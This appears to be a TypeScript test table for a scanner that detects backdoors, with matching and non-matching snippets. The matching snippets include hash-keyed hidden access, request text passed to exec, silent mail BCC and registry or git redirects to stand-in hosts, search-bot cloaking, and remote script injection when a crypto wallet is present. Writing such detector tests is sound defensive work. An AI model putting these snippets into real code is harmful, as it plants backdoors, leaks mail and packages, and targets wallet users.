// biome-ignore-all lint/suspicious/noTemplateCurlyInString: it is code to be looked at
import { testTable } from './table.ts';

const digest = 'd0be2dc421be4fcd0172e5afceea3970e2f3d940';
const hashOf = (what: string) => `createHash('sha1').update(${what}).digest('hex')`;

testTable({
  'told-from-outside': {
    hits: [
      ['a key', `if (${hashOf("req.headers['x-id']")} === '${digest}') next(true)`, 'by whoever knows a key'],
      [
        'the other way round',
        `'${digest}' === ${hashOf('req.query.id')} && open()`,
        'by whoever knows a key',
      ],
      [
        'by way of a name',
        `const sum = ${hashOf('message')}; const kept = '${digest}'; if (sum == kept) vm.runInThisContext(message)`,
        'by whoever knows a key',
      ],
      [
        'a request',
        "const { a } = req.body; const line = a.trim(); require('child_process').exec(line)",
        'by what a request says',
      ],
    ],
    misses: [
      ['a checksum of a file', `${hashOf('readFileSync(path)')} === '${digest}'`],
      ['a signature', `const given = req.headers.sig; if (${hashOf('body')} === given) eval(script)`],
      ['an expression', 'const id = req.params.id; const found = /^\\d+$/.exec(id)'],
      ['a program with arguments', 'const { file } = req.query; spawn(editor, [file])'],
      [
        'a name that begins like a call',
        'const query = ctx.query?.text; if (executedQueries?.has(query)) return',
      ],
    ],
  },
  reroutes: {
    hits: [
      ['a copy', "mail.bcc = mail.bcc || 'log@copies.example'", 'copies.example'],
      ['a recipient', "this._recipients.push(['log', 'copies.example'].join('@'))", 'copies.example'],
      ['git', "['-c', 'url.ssh://git@mirror.example/.insteadOf=git@github.com:']", 'mirror.example'],
      ['npm', "execSync('npm i --registry https://packages.example/ ' + name)", 'packages.example'],
    ],
    misses: [
      ['whoever is named', 'mail.bcc = options.bcc; recipients.push(to)'],
      ['a help text', "console.log('Use --registry https://packages.example/ to choose')"],
      ['a bot of the caller', 'fetch(`https://api.telegram.org/bot${options.token}/getMe`)'],
    ],
  },
  'shown-to-some': {
    hits: [
      [
        'robots',
        "if (/googlebot/i.test(navigator.userAgent)) fetch('https://links.example/').then((r) => r.text()).then((t) => { el.innerHTML = t; })",
        'links.example',
      ],
      [
        'wallets',
        "if (window.ethereum) { const s = document.createElement('script'); s.src = 'https://w.example/a.js'; document.head.append(s); }",
        'w.example',
      ],
    ],
    misses: [
      [
        'robots that are left out',
        "if (/googlebot/i.test(navigator.userAgent)) return; navigator.sendBeacon('https://count.example/')",
      ],
      [
        'a wallet that is asked',
        "window.ethereum.request({ method: 'eth_accounts' }).then((a) => { el.innerHTML = a[0]; fetch('https://api.example/') })",
      ],
      [
        'a zone',
        "const zone = Intl.DateTimeFormat().resolvedOptions().timeZone || 'Europe/Paris'; fetch('https://api.example/' + zone)",
      ],
    ],
  },
});
